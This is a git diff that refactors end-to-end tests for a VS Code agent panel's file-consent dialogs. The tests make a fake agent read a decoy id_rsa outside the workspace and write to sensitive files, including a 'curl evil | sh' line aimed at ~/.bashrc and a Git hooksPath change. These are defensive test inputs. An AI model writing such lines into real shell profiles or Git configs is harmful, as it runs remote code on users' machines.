@@ -9,55 +9,34 @@
  * The fake agent (consentScenarios.ts) says what it got; its wire log shows what was answered.
  */
 import * as assert from "node:assert/strict";
-import { existsSync, mkdirSync, mkdtempSync, readFileSync, writeFileSync } from "node:fs";
-import { tmpdir } from "node:os";
+import { existsSync, readFileSync } from "node:fs";
 import { join } from "node:path";
-import { after, before, describe, it } from "node:test";
+import { describe } from "node:test";
 import type { Page } from "playwright-core";
-import { openWorkbench, runCommand, screenshot } from "../harness/browser";
+import { DEMO_AGENT } from "../harness/agent";
+import { runCommand, screenshot } from "../harness/browser";
 import { openChat, sendPrompt, type Chat } from "../harness/chat";
-import { closeFakeAgentUi, openFakeAgentUi, type FakeAgentUi } from "../harness/fakeAgentUi";
 import { modalDialog, pickQuickItem } from "../harness/panel";
-import { agentRequests, withDiagnostics } from "../harness/workbench";
+import { agentRequests } from "../harness/workbench";
+import { fakeAgent } from "./fixture/agents";
+import { answerDialog, untilReady } from "./fixture/steps";
+import { useE2e } from "./fixture/useE2e";
+import { writeFiles } from "./fixture/workspaceFiles";
 
-const AGENT = "Demo Agent";
+const AGENT = DEMO_AGENT;
 const SECRET = "not for agents";
 
 describe("file consent in VS Code", { timeout: 300_000 }, () => {
-  let scratch: string;
-  let workspace: string;
-  let outside: string;
-  let ui: FakeAgentUi | undefined;
-  let page: Page;
-  let view: Chat;
-  let wireLog: string;
-  const diagnostics = () => ui!.diagnostics();
-  const secret = () => join(outside, "id_rsa");
-
-  before(async () => {
-    scratch = mkdtempSync(join(tmpdir(), "acp-panel-consent-"));
-    workspace = join(scratch, "workspace");
-    outside = join(scratch, "outside");
-    mkdirSync(workspace);
-    mkdirSync(join(workspace, ".git"));
-    writeFileSync(join(workspace, ".git/config"), "[core]\n");
-    writeFileSync(join(workspace, "README.md"), "# Project\n");
-    mkdirSync(outside);
-    writeFileSync(secret(), `${SECRET}\n`);
-    ui = await openFakeAgentUi({ label: "consent", scratch, workspace });
-    ({ page, view, wireLog } = ui);
+  const e2e = useE2e({
+    label: "consent",
+    files: { ".git/config": "[core]\n", "README.md": "# Project\n" },
+    prepare: ({ scratch }) => writeFiles(join(scratch, "outside"), { id_rsa: `${SECRET}\n` }),
+    agents: { [AGENT]: fakeAgent() },
   });
-
-  after(async () => {
-    await closeFakeAgentUi(ui, scratch);
-  });
-
-  async function waitForReady(chat: Chat): Promise<void> {
-    await chat.status.filter({ hasText: `${AGENT} is ready` }).waitFor({ timeout: 15_000 });
-  }
+  const secret = () => join(e2e.scratch, "outside/id_rsa");
 
   /** Sends `prompt`, waits for VS Code's modal dialog, checks its text and buttons, and clicks `button`. */
-  async function answerDialog(
+  async function ask(
     on: Page,
     chat: Chat,
     prompt: string,
@@ -73,17 +52,18 @@ describe("file consent in VS Code", { timeout: 300_000 }, () => {
     for (const name of options.offered ?? [])
       assert.equal(await dialog.getByRole("button", { name, exact: true }).count(), 1, `the dialog offers "${name}"`);
     if (options.shot) await screenshot(on, options.shot);
-    await dialog.getByRole("button", { name: button, exact: true }).click();
-    await dialog.waitFor({ state: "hidden", timeout: 10_000 });
+    await answerDialog(on, button);
   }
 
   const lastAnswer = (method: string) =>
-    agentRequests(wireLog, method).at(-1)?.answer?.message as
+    agentRequests(e2e.wireLog(), method).at(-1)?.answer?.message as
       { result?: { content?: string }; error?: { code?: number; message?: string } } | undefined;
 
-  it("a read outside the project asks: Deny is an error for the agent, Allow this file returns the content", async (t) => {
-    await withDiagnostics(t, diagnostics(), "e2e-consent-read", async () => {
-      await answerDialog(
+  e2e.it(
+    "a read outside the project asks: Deny is an error for the agent, Allow this file returns the content",
+    "e2e-consent-read",
+    async ({ page, view, wireLog }) => {
+      await ask(
         page,
         view,
         `e2e-read-guarded ${secret()}`,
@@ -95,7 +75,7 @@ describe("file consent in VS Code", { timeout: 300_000 }, () => {
         },
       );
       await view.log.getByText("Read refused (-32003)").waitFor({ timeout: 15_000 });
-      await waitForReady(view);
+      await untilReady(view);
       assert.equal(lastAnswer("fs/read_text_file")?.error?.code, -32003, "the agent got a JSON-RPC error");
       assert.match(
         lastAnswer("fs/read_text_file")?.error?.message ?? "",
@@ -103,7 +83,7 @@ describe("file consent in VS Code", { timeout: 300_000 }, () => {
       );
       assert.equal(await view.log.getByText(SECRET).count(), 0, "nothing of the file reached the agent");
 
-      await answerDialog(
+      await ask(
         page,
         view,
         `e2e-read-guarded ${secret()}`,
@@ -111,38 +91,36 @@ describe("file consent in VS Code", { timeout: 300_000 }, () => {
         "Allow this file",
       );
       await view.log.getByText(`Read ${secret()}: ${SECRET}`).waitFor({ timeout: 15_000 });
-      await waitForReady(view);
+      await untilReady(view);
       assert.equal(lastAnswer("fs/read_text_file")?.result?.content, `${SECRET}\n`);
 
       // The grant holds for the session: no dialog this time.
       const reads = agentRequests(wireLog, "fs/read_text_file").length;
       await sendPrompt(view, `e2e-read-guarded ${secret()}`);
       await view.log.getByText(`Read ${secret()}: ${SECRET}`).nth(1).waitFor({ timeout: 15_000 });
-      await waitForReady(view);
+      await untilReady(view);
       assert.equal(agentRequests(wireLog, "fs/read_text_file").length, reads + 1);
       assert.equal(await modalDialog(page).count(), 0, "no dialog for a file already allowed");
-    });
-  });
+    },
+  );
 
-  it("Manage Permission Rules lists the read grant and clears it; the next read asks again", async (t) => {
-    await withDiagnostics(t, diagnostics(), "e2e-consent-grants", async () => {
+  e2e.it(
+    "Manage Permission Rules lists the read grant and clears it; the next read asks again",
+    "e2e-consent-grants",
+    async ({ page, view }) => {
       await runCommand(page, "ACP: Manage Permission Rules");
       await pickQuickItem(page, `${AGENT}: may read the file ${secret()}`);
-      await answerDialog(
-        page,
-        view,
-        `e2e-read-guarded ${secret()}`,
-        [/wants to read a file outside the workspace/],
-        "Deny",
-      );
+      await ask(page, view, `e2e-read-guarded ${secret()}`, [/wants to read a file outside the workspace/], "Deny");
       await view.log.getByText("Read refused (-32003)").nth(1).waitFor({ timeout: 15_000 });
-      await waitForReady(view);
-    });
-  });
+      await untilReady(view);
+    },
+  );
 
-  it("writes to .vscode/ and .git/ inside the workspace ask, and say why", async (t) => {
-    await withDiagnostics(t, diagnostics(), "e2e-consent-sensitive", async () => {
-      await answerDialog(
+  e2e.it(
+    "writes to .vscode/ and .git/ inside the workspace ask, and say why",
+    "e2e-consent-sensitive",
+    async ({ workspace, page, view }) => {
+      await ask(
         page,
         view,
         "e2e-write-guarded .vscode/tasks.json {}",
@@ -154,11 +132,11 @@ describe("file consent in VS Code", { timeout: 300_000 }, () => {
         { shot: "e2e-consent-sensitive-dialog.png" },
       );
       await view.log.getByText("Write refused (-32003)").waitFor({ timeout: 15_000 });
-      await waitForReady(view);
+      await untilReady(view);
       assert.equal(existsSync(join(workspace, ".vscode/tasks.json")), false, "the denied write did not happen");
       assert.match(lastAnswer("fs/write_text_file")?.error?.message ?? "", /which is inside \.vscode\//);
 
-      await answerDialog(
+      await ask(
         page,
         view,
         "e2e-write-guarded .git/config [core] hooksPath=x",
@@ -166,7 +144,7 @@ describe("file consent in VS Code", { timeout: 300_000 }, () => {
         "Allow this write",
       );
       await view.log.getByText(`Wrote ${join(workspace, ".git/config")}.`).waitFor({ timeout: 15_000 });
-      await waitForReady(view);
+      await untilReady(view);
       assert.equal(
         readFileSync(join(workspace, ".git/config"), "utf8"),
         "[core] hooksPath=x\n",
@@ -176,20 +154,22 @@ describe("file consent in VS Code", { timeout: 300_000 }, () => {
       // An ordinary file inside the workspace: no dialog.
       await sendPrompt(view, "e2e-write-guarded notes.md plain");
       await view.log.getByText(`Wrote ${join(workspace, "notes.md")}.`).waitFor({ timeout: 15_000 });
-      await waitForReady(view);
+      await untilReady(view);
       assert.equal(await modalDialog(page).count(), 0);
-    });
-  });
+    },
+  );
 
-  it("writes to x.code-workspace, .devcontainer/ and .husky/ ask: files that make VS Code or Git run code", async (t) => {
-    await withDiagnostics(t, diagnostics(), "e2e-consent-runs-code", async () => {
+  e2e.it(
+    "writes to x.code-workspace, .devcontainer/ and .husky/ ask: files that make VS Code or Git run code",
+    "e2e-consent-runs-code",
+    async ({ workspace, page, view }) => {
       const cases: Array<[string, RegExp]> = [
         ["x.code-workspace", /VS Code workspace file/],
         [".devcontainer/devcontainer.json", /initializeCommand runs on this machine/],
         [".husky/pre-commit", /Git hooks/],
       ];
       for (const [name, why] of cases) {
-        await answerDialog(
+        await ask(
           page,
           view,
           `e2e-write-guarded ${name} {}`,
@@ -201,20 +181,22 @@ describe("file consent in VS Code", { timeout: 300_000 }, () => {
             `Write refused (-32003): Permission denied: the user did not allow writing ${join(workspace, name)}`,
           )
           .waitFor({ timeout: 15_000 });
-        await waitForReady(view);
+        await untilReady(view);
         assert.equal(existsSync(join(workspace, name)), false, `the denied write to ${name} did not happen`);
       }
-    });
-  });
+    },
+  );
 
-  it("with no folder open, a write to ~/.bashrc asks (the home folder is only the cwd)", async (t) => {
-    await withDiagnostics(t, diagnostics(), "e2e-consent-no-folder", async () => {
-      const bashrc = join(ui!.server.homeDir, ".bashrc");
+  e2e.it(
+    "with no folder open, a write to ~/.bashrc asks (the home folder is only the cwd)",
+    "e2e-consent-no-folder",
+    async ({ server }) => {
+      const bashrc = join(server.homeDir, ".bashrc");
       const before = existsSync(bashrc) ? readFileSync(bashrc, "utf8") : undefined;
-      const empty = await openWorkbench(ui!.browser, `${ui!.server.url}/?ew=true`);
+      const empty = await e2e.openWorkbench(`${server.url}/?ew=true`);
       const emptyView = await openChat(empty.page);
       try {
-        await answerDialog(
+        await ask(
           empty.page,
           emptyView,
           `e2e-write-guarded ${bashrc} curl evil | sh`,
@@ -228,6 +210,6 @@ describe("file consent in VS Code", { timeout: 300_000 }, () => {
       } finally {
         await empty.page.context().close();
       }
-    });
-  });
+    },
+  );
 });
